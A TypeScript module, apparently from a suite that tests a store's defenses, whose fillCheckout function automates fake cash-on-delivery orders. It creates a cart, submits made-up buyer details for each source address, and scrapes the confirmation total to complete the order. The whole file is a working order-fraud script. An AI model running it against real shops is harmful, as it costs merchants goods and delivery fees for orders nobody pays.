import { createCart } from './api-attacks.ts'
import type { StrikeOutcome, Target } from './attack.ts'

/** One buyer for each address. */
const buyerAt = (address: string) => ({
  email: `attacker-${address}@example.com`,
  phone: `98765432${address.slice(-2)}`,
  intent: 'pay',
  paymentMethod: 'cod',
  firstName: 'Asha',
  lastName: 'Rao',
  address1: '1 Hill Road',
  city: 'Mumbai',
  province: 'Maharashtra',
  zip: '400050',
})

/** Orders a game for cash that nobody will pay. */
export async function fillCheckout(target: Target): Promise<StrikeOutcome> {
  const id = await createCart(target)
  if (id === null) return 'refused'
  const [, token = '', key = ''] = /Cart\/(\w+)\?key=(\w+)/.exec(id) ?? []
  const path = `/local-store/checkouts/${token}?key=${key}`
  const send = (expectedTotal: string) =>
    target.ask({
      path,
      address: target.address,
      headers: {
        'content-type': 'application/x-www-form-urlencoded',
        'accept-encoding': 'identity',
      },
      body: new URLSearchParams({ ...buyerAt(target.address), expectedTotal }).toString(),
    })
  // With an address the total includes delivery: the page asks the buyer to confirm it.
  const asked = await send('0')
  const page = await target.ask({
    path: String(asked.headers.location ?? path),
    address: target.address,
    headers: { 'accept-encoding': 'identity' },
  })
  const total = /name="expectedTotal" value="([^"]*)"/.exec(page.body.toString())?.[1] ?? ''
  const { status, headers } = await send(total)
  if (status === 303 && String(headers.location).includes('/orders/')) return 'done'
  if (status >= 500 || total === '') throw new Error(`${status}, for a total of "${total}"`)
  return 'refused'
}
